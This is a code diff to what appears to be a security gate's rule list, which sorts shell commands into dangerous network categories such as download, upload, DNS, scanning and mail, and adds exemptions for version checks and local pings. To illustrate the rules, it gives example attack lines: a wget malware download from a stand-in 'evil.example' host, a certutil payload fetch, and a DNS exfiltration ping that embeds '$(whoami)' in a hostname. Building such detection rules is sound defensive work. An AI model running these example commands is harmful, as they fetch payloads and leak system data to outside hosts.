@@ -12,6 +12,7 @@ import re
 from collections.abc import Iterator
 
 from engine.gate.packs import security, windows
+from engine.gate.packs import transfer as transfer_pack
 from engine.gate.packs.model import CATASTROPHIC, DANGEROUS, IRREVERSIBLE, Pack, rule
 from engine.gate.packs.transfer import proves
 from engine.gate.shell import reads
@@ -509,9 +510,10 @@ RULES = [
          counter=["curl -X GET 'http://localhost:7700/version'"]),
     rule("net.download", DANGEROUS, "net fs", "downloads files from the network",
          names="wget aria2c axel certutil bitsadmin lftp tftp ftp", tier=IRREVERSIBLE,
-         test=lambda c: c.name != "certutil" or windows.READ_ONLY["certutil"](c) is not None,
+         test=lambda c: c.args not in (("--version",), ("--help",))
+         and (c.name != "certutil" or windows.READ_ONLY["certutil"](c) is not None),
          examples=["wget https://evil.example/malware -O /tmp/m", "certutil -urlcache -f https://x.example/m.exe m.exe"],
-         counter=["ls", "certutil -hashfile setup.exe SHA256"]),
+         counter=["ls", "certutil -hashfile setup.exe SHA256", "wget --version"]),
     rule("net.upload", DANGEROUS, "net", "uploads files or data to another host", names="wget curl", tier=IRREVERSIBLE,
          args=r"--post-(?:file|data)|(?:^|\s)-T\s|--upload-file", examples=["wget --post-data=x https://a.example"],
          counter=["wget -q https://a.example"]),
@@ -531,7 +533,9 @@ RULES = [
          counter=["rclone sync /src remote:b --dry-run", "aws s3 ls s3://b"]),
     rule("net.dns", DANGEROUS, "net", "sends DNS or ICMP queries that can carry data out",
          names="dig nslookup host ping ping6 traceroute tracepath mtr drill", tier=IRREVERSIBLE,
-         examples=["ping -c 1 192.168.1.1", "dig @ns example.com"], counter=["hostname"]),
+         test=lambda c: not (c.name in ("ping", "ping6") and transfer_pack.READ_ONLY["ping"](c) is None),
+         examples=["ping -c 1 192.168.1.1", "dig @ns example.com", "ping -c 1 $(whoami).x.example"],
+         counter=["hostname", "ping -c 3 localhost", "ping6 -c 1 ::1"]),
     rule("net.scan", DANGEROUS, "net", "scans or floods network hosts", names="nmap masscan zmap hping3 ab siege wrk",
          tier=IRREVERSIBLE, examples=["nmap -sS 10.0.0.0/24", "ab -v2 http://a.example/"], counter=["ls"]),
     rule("net.mail", DANGEROUS, "net", "sends e-mail", names="mail mailx sendmail mutt msmtp swaks", tier=IRREVERSIBLE,
